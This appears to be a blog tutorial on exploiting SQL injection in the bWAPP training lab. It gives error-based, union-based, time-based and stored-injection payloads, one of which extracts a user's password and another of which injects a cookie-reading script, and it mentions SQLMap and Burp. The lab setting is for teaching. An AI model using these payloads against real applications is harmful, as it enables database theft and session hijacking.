SQL Injections – Part 2

As you already familiar with the subject SQL injections from the previous article part 1, we will quickly dive into exploitation with SQLi. Login to your bWAPP and select vulnerability SQL Injection (Login Form/Hero). As stated in previous post, we need to do some manual analysis to know the functionality and it’s implementation. Try to login with your some random text (test, test). Now let’s do some dynamic analysis by reviewing source code of the functionality.

This constructed statement leads to SQLi vulnerability. It’s quite easy to break the statement with single quote and boolean condition which is error based sqli
Attack vector: test’ or 1=1–

You may try other type SQL injections Union based, Time based
Here’re the examples of attackUnion Based:
1) test’ UNION ALL SELECT NULL,CONCAT(0x3a6a62713a,0x427547556778516a7957,0x3a6e6b6c3a),NULL,NULL#
2) test’ union select 1,1,1,1–
3) test’ union select 1,’IronMan’,1,’You are hacked!’–
4) test’ union select 1,’IronMan’,1,’alert(document.cookie)Hacked!’–



Time Based:
1) test’ / sleep(15) / ‘
2) test’ AND (SELECT * FROM (SELECT(SLEEP(5)))rGVc) AND ‘Wnfm’=’Wnfm

Now let’s break another functionality, select SQL Injection – Stored (Blog) in bWAPP
Again do the analysis, check the source code to know the implementation.


Okay, now it’s an Insert statement being used. So, the malicious input would also gets stored in the database. Try inserting a single quote


So try all types of SQL injections (Error based, Union based, Time based). If you’re vexed up doing this manually then use Burp Repeater to resend the request or ZAP, SQLMap for automated scan of this request.
1) blah’,(select password from heroes where login=’neo’))–2) Yo yo ‘ / sleep(15) / ‘
3) Yo yo ‘ AND (SELECT 3335 FROM(SELECT COUNT(*),CONCAT(0x3a6a62713a,(SELECT (ELT(3335=3335,1))),0x3a6e6b6c3a,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.CHARACTER_SETS GROUP BY x)a) AND ‘dIgi’=’dIgi

Try all other functionalities in bWAPP. I hope now you’ve a good understanding on SQL injections. I’ll post cheat sheet soon. If you think that I miss anything then please post a comment below.

Here’s the reference: https://www.owasp.org/index.php/SQL_Injection
How to review the source code: https://www.owasp.org/index.php/Reviewing_Code_for_SQL_Injection

Leave a Reply

Please log in using one of these methods to post your comment:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Google photo

You are commentingusing your Google account.Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photo

You are commenting using your Facebook account. Log Out /  Change )

Connecting to %s